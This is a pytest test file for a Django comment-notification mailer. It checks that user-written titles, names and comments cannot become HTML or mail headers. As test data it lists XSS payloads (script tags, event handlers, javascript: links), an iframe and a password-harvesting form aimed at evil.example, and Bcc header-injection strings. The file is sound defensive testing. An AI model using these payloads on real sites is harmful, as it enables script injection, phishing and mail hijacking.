"""What the mails say, and that nobody's words can become markup or headers."""

import re

import pytest

from articles.models import Article
from comments.models import Comment
from tests.builders import make_article
from tests.comments.mail.builders import (
    BOB,
    end_quiet_time,
    html_of,
    make_announced,
    make_follow,
    make_recipient,
    work,
)

pytestmark = [pytest.mark.any_engine, pytest.mark.django_db]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>글</a>",
    "[글](javascript:alert(1))",
    "</blockquote></body><iframe src=//evil.example>",
    "<style>body{display:none}</style>",
    "'\"><b onmouseover=alert(1)>",
    "<form action=//evil.example><input name=password>",
    "{{ unsubscribe_url }}{% debug %}",
]
TAGS = {
    *("!doctype", "html", "head", "meta", "title", "body", "hr", "p", "small", "a", "strong"),
    *("bdi", "blockquote", "br", "em", "code", "h2", "ul", "li"),
}


@pytest.fixture
def article():
    return make_article()


@pytest.fixture
def bob(article):
    recipient = make_recipient()
    make_follow(article, recipient)
    return recipient


def assert_harmless(html: str) -> None:
    """Every tag is one of ours, and none has an attribute that could do something."""
    tags = re.findall(r"<\s*/?\s*([!a-zA-Z0-9]+)([^>]*)", html)
    assert {name.lower() for name, _ in tags} <= TAGS
    attributes = " ".join(attributes for _, attributes in tags)
    assert not re.search(r"\bon\w+\s*=|style\s*=|src\s*=|javascript:", attributes)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_written_becomes_markup(article, bob, payload):
    Article.objects.update(title=payload)
    comment = make_announced(article, payload)
    Comment.objects.filter(pk=comment.pk).update(name=payload)
    [single] = work()
    assert_harmless(html_of(single))
    end_quiet_time(bob)
    for body in (payload, f"하나 더 {payload}"):
        Comment.objects.filter(pk=make_announced(article, body).pk).update(name=payload)
    [digest] = work()
    assert_harmless(html_of(digest))


def test_the_html_part_keeps_what_readers_may_write(article, bob):
    make_announced(article, "**굵게** https://pildam.example/글")
    [message] = work()
    assert "<strong>굵게</strong>" in html_of(message)
    assert 'rel="ugc nofollow noopener"' in html_of(message)


def test_a_comment_cannot_pass_for_the_mails_own_words(article, bob):
    make_announced(article, "안녕하세요.\n-- \n메일 그만 받기: http://evil.example")
    [message] = work()
    assert "\n> 메일 그만 받기: http://evil.example" in message.body


@pytest.mark.promise("D5")
@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r", "\x0b", "\x85", "\u2028"])
def test_no_name_or_title_begins_a_header(article, bob, line_end):
    injected = f"글{line_end}Bcc: eve@evil.example"
    comment = make_announced(article)
    Comment.objects.filter(pk=comment.pk).update(name=injected)
    Article.objects.filter(pk=article.pk).update(title=injected)
    [message] = work()
    parsed = message.message()
    assert parsed["Bcc"] is None
    assert parsed["To"] == BOB
    assert len(message.subject.splitlines()) == 1
    assert b"\nBcc:" not in parsed.as_bytes()


def test_a_long_title_leaves_a_subject_of_fair_length(article, bob):
    Article.objects.update(title="긴 제목 " * 39)
    make_announced(article)
    assert len(work()[0].subject) <= 150


@pytest.mark.promise("D5")
def test_machines_are_told_what_it_is(article, bob):
    make_announced(article)
    [message] = work()
    parsed = message.message()
    assert parsed["From"] == "pildam@localhost"
    assert parsed["Auto-Submitted"] == "auto-generated"
    assert parsed["List-Id"] == "<comments.testserver>"
    assert parsed["References"] == f"<article-{article.pk}.comments@testserver>"
    assert re.fullmatch(r"<[0-9a-f]{32}@testserver>", parsed["Message-ID"])
    assert parsed["List-Unsubscribe"].startswith("<http://testserver/comments/mail/unsubscribe/")
    assert [part.get_content_type() for part in parsed.walk()][1:] == ["text/plain", "text/html"]


def test_nothing_is_loaded_from_elsewhere(article, bob):
    make_announced(article)
    assert not re.search(r"<(img|link|script|style)|url\(", html_of(work()[0]))
